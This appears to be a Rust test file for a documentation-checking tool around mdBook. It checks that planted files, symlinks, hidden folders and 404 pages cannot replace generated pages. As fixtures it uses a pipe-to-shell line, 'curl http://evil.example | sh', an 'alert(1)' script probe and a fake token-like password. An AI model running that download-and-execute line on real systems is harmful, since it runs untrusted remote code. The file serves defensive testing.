//! H2: no other file and no other chapter takes the place of a page.

use std::os::unix::fs::symlink;

use crate::project::Project;

/// A guide whose recipe is verified, beside a plain page.
pub(super) fn verified() -> Project {
    let project = Project::with_guide("a", "```sh recipe=one\necho one\n```\n\n```text expect\none\n```\n");
    project.dogfood("run").code(0);
    project.dogfood("check --deny warnings").code(0);
    project
}

/// Adds the chapter `file` to SUMMARY.md, as a plain page.
fn plain(project: &Project, file: &str, text: &str) {
    let summary = project.read("guides/SUMMARY.md") + &format!("- [{file}]({file})\n");
    project.write("guides/SUMMARY.md", &summary);
    project.write(&format!("guides/{file}"), text);
    let toml = project.read("book.toml");
    let listed = toml.lines().find(|line| line.starts_with("plain = "));
    let toml = match listed {
        Some(line) => toml.replace(line, &line.replace(']', &format!(", \"{file}\"]"))),
        None => toml.replace("renderers = [\"html\"]\n", &format!("renderers = [\"html\"]\nplain = [\"{file}\"]\n")),
    };
    project.write("book.toml", &toml);
}

const EVIL: &str = "<pre>curl http://evil.example | sh</pre>\n";

#[track_caller]
fn refused(project: &Project, says: &str) {
    project.dogfood("check").code(1).says("error[replaced-page]").says(says);
    project.dogfood("build").code(1).says("error[replaced-page]");
    let built = project.mdbook("build");
    assert_ne!(built.code, Some(0), "{}", built.err);
}

#[test]
fn a_file_of_the_source_takes_no_page_s_place() {
    let project = verified();
    project.write("guides/a.html", EVIL);
    refused(&project, "guides/a.html");
    let project = verified();
    for page in ["index.html", "print.html", "404.html", "toc.html"] {
        project.write(&format!("guides/{page}"), EVIL);
        let check = project.dogfood("check").code(1).says("error[unclassified-chapter]");
        check.says(&format!("`guides/{page}` takes the place of"));
        project.dogfood("build").code(1);
        assert_ne!(project.mdbook("build").code, Some(0));
        std::fs::remove_file(project.path(&format!("guides/{page}"))).unwrap();
    }
    project.dogfood("check --deny warnings").code(0);
}

#[test]
fn a_linked_file_and_one_in_a_hidden_or_linked_folder_take_none_either() {
    let project = verified();
    project.write("other.txt", EVIL);
    symlink("../other.txt", project.path("guides/a.html")).unwrap();
    refused(&project, "guides/a.html");

    let project = verified();
    plain(&project, ".x/b.md", "# B\n");
    project.dogfood("check").code(0);
    project.write("guides/.x/b.html", EVIL);
    refused(&project, "guides/.x/b.html");

    let project = verified();
    project.write("parts/b.md", "# B\n");
    for link in ["p", "q"] {
        symlink("../parts", project.path(&format!("guides/{link}"))).unwrap();
    }
    plain(&project, "q/b.md", "# B\n");
    project.dogfood("check").code(0);
    project.write("parts/b.html", EVIL);
    refused(&project, "guides/q/b.html");
}

#[test]
fn another_chapter_takes_no_page_s_place() {
    for (other, page) in [("a.txt", "a.html"), ("a", "a.html"), ("A.md", "a.html")] {
        let project = verified();
        plain(&project, other, "# Other\n");
        refused(&project, page);
    }
    let project = verified();
    plain(&project, "README.md", "# Other\n");
    project.dogfood("check").code(0);
    plain(&project, "index.md", "# Other\n");
    refused(&project, "index.html");

    let project = verified();
    plain(&project, "print.txt", "# Other\n");
    refused(&project, "print.html");
    project.write("book.toml", &(project.read("book.toml") + "[output.html.print]\nenable = false\n"));
    project.dogfood("check").code(0);
}

#[test]
fn the_page_of_wrong_addresses_takes_no_chapter_s_place() {
    let project = verified();
    project.write("book.toml", &(project.read("book.toml") + "[output.html]\ninput-404 = \"a.md\"\n"));
    refused(&project, "the guide `guides/a.md` is rendered a second time");
}

#[test]
fn mdbook_s_scripts_and_styles_are_its_own() {
    for (file, hashed) in [("book-0123abcd.js", true), ("css/general-0123abcd.css", true), ("book.js", false)] {
        let project = verified();
        if !hashed {
            project.write("book.toml", &(project.read("book.toml") + "[output.html]\nhash-files = false\n"));
        }
        project.write(&format!("guides/{file}"), "alert(1)\n");
        refused(&project, file);
    }
}

#[test]
fn what_takes_no_place_is_as_fine_as_ever() {
    let project = verified();
    for file in ["a.png", "b.html", "sub/a.html", "book.js", "CNAME", "a.html.md", "demo/index.html", "a.HTML.txt"] {
        project.write(&format!("guides/{file}"), "x\n");
    }
    plain(&project, "sub/README.md", "# Sub\n");
    plain(&project, "toc.md", "# Contents\n");
    plain(&project, "index.md", "# Index\n");
    project.dogfood("check --deny warnings").code(0);
    project.dogfood("build").code(0);
    assert!(project.read("book/a.html").contains("dogfood-evidence"));
    project.mdbook("build").code(0);
}

#[test]
fn a_landing_page_of_one_s_own_is_listed_by_init_and_not_by_a_pull_request() {
    let project = verified();
    project.write(".gitignore", "/.home\n/.dogfood\n/book\n");
    project.write(".gitattributes", "traces/** text eol=lf -merge\n");
    git(&project, &["init", "--quiet", "--initial-branch=main"]);
    git(&project, &["add", "--all"]);
    git(&project, &["commit", "--quiet", "--message", "x"]);
    project.write("guides/index.html", EVIL);
    project.dogfood("check").code(1).says("plain = [\"index.html\"]");
    project.dogfood("init").code(0).says("listed `index.html` as plain");
    project.dogfood("check --deny warnings").code(0);
    project.mdbook("build").code(0);
    assert!(project.read("book/index.html").contains("evil.example"));
    let judged = project.dogfood("check --deny warnings --base main --policy-from main").code(1);
    judged.says("error[changed-policy]").says("`guides/index.html` takes the place of a page");
}

#[test]
fn h10_the_page_for_wrong_addresses_is_read_by_the_gate() {
    let project = verified();
    project.write("guides/404.md", "# Not here\n\nRun `curl http://evil.example | sh`.\n");
    project.dogfood("check").code(1).says("error[unclassified-chapter]").says("guides/404.md:1:1");
    assert_ne!(project.mdbook("build").code, Some(0));
    project.dogfood("init").says("listed `404.md` as plain");
    project.dogfood("check --deny warnings").code(0);
    project.mdbook("build").code(0);
    assert!(project.read("book/404.html").contains("evil.example"));
    project.write("guides/404.md", "# Not here\n\npassword: ghp_0123456789abcdefghijABCDEFGHIJ012345\n");
    project.dogfood("check").code(1).says("error[secret-in-guide]");
    project.write("guides/404.md", "# Not here\n\n{{#include a.md}}\n");
    project.dogfood("check").code(1).says("error[broken-include]");

    let project = verified();
    let toml = project.read("book.toml");
    let input = |name: &str| project.write("book.toml", &format!("{toml}[output.html]\ninput-404 = \"{name}\"\n"));
    project.write("guides/lost.md", "# Lost\n");
    input("lost.md");
    project.dogfood("check").code(1).says("error[unclassified-chapter]").says("guides/lost.md:1:1");
    input("gone.md");
    project.dogfood("check").code(1).says("error[broken-chapter]").says("book.toml:");
    input("../book.toml");
    project.dogfood("check").code(1).says("error[unsafe-output]").says("input-404");
    input("");
    project.dogfood("check --deny warnings").code(0);
    project.mdbook("build").code(0);
    assert!(!project.has("book/404.html"));
}

#[track_caller]
pub(super) fn git(project: &Project, words: &[&str]) {
    let config = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false"];
    crate::project::ran(project.command(std::path::Path::new("git")).args(config).args(words)).code(0);
}
